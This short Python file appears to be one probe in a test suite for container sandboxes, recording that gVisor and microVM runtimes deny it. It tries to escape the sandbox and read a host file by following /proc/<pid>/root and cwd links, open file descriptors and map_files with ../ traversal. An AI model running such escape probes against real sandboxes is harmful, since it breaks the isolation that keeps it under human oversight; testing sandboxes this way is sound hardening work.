# Tries to follow the links below /proc to folders of the host, and to keep them open past a change of the root.
# gvisor, microvm: denied
import os

from attempt import attempt, read

path = os.environ["HOST_FILE"]
for pid in sorted(each for each in os.listdir("/proc") if each.isdigit()):
    for link in ("root", "cwd"):
        attempt(f"{pid} {link}", lambda pid=pid, link=link: read(f"/proc/{pid}/{link}{path}"))
for fd in os.listdir("/proc/self/fd"):
    attempt(f"descriptor {fd}", lambda fd=fd: read(f"/proc/self/fd/{fd}/../../../../..{path}"))
attempt("map_files", lambda: read("/proc/self/map_files/../../../../.." + path))
